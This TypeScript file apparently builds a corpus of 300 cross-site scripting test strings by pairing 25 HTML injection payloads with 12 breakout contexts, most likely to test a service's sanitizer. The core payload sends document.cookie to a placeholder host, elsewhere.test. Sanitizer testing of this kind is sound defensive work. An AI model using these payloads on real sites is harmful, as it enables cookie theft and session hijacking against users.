/**
 * Ways to make a page run a script, or send requests elsewhere, if it treats text as HTML. `go` is
 * the script.
 */
const go = `fetch('https://elsewhere.test/'+document.cookie),alert(1)`;
const attempts: readonly string[] = [
  `<script>${go}</script>`,
  `<ScRiPt src=//elsewhere.test/x.js></ScRiPt>`,
  `<img src=x onerror="${go}">`,
  `<img src=https://elsewhere.test/p.png>`,
  `<svg onload=${go}>`,
  `<svg><script href="https://elsewhere.test/x.js"/></svg>`,
  `<svg><a xlink:href="javascript:${go}"><text y=20>x</text></a></svg>`,
  `<iframe srcdoc="<script>${go}</script>"></iframe>`,
  `<iframe src="javascript:${go}"></iframe>`,
  `<details open ontoggle="${go}">x</details>`,
  `<input autofocus onfocus="${go}">`,
  `<body onload="${go}">`,
  `<object data="javascript:${go}"></object>`,
  `<embed src="https://elsewhere.test/x.swf">`,
  `<link rel=stylesheet href=https://elsewhere.test/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://elsewhere.test/">`,
  `<base href=https://elsewhere.test/>`,
  `<form action=https://elsewhere.test/><button autofocus>x</button></form>`,
  `<video><source onerror="${go}"></video>`,
  `<marquee onstart="${go}">x</marquee>`,
  `<style>@import 'https://elsewhere.test/x.css';</style>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${go}&gt;">`,
  `<a href="javascript:${go}">click</a>`,
  `<template><script>${go}</script></template>`,
  `<p style="background:url(https://elsewhere.test/b.png)">x`,
];

/** Contexts in which text could be treated as HTML. */
const places: readonly ((attempt: string) => string)[] = [
  (attempt) => attempt,
  (attempt) => `">${attempt}`,
  (attempt) => `'>${attempt}`,
  (attempt) => `</script>${attempt}`,
  (attempt) => `</title></textarea></noscript></style>${attempt}`,
  (attempt) => `-->${attempt}<!--`,
  (attempt) => `]]>${attempt}`,
  (attempt) => `{{constructor.constructor(\`${attempt}\`)()}}\${${attempt}}`,
  (attempt) => `[x](javascript:${go}) ![y](https://elsewhere.test/i.png) ${attempt}`,
  (attempt) => attempt.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (attempt) => attempt.replaceAll('<', '\\u003c').replaceAll('"', '\\x22'),
  (attempt) => `\u202e\u0007${attempt}\u2028`, // The service stores no text with NUL.
];

/** 300 strings: each payload in each context. */
export const payloads: readonly string[] = places.flatMap((place) => attempts.map(place));
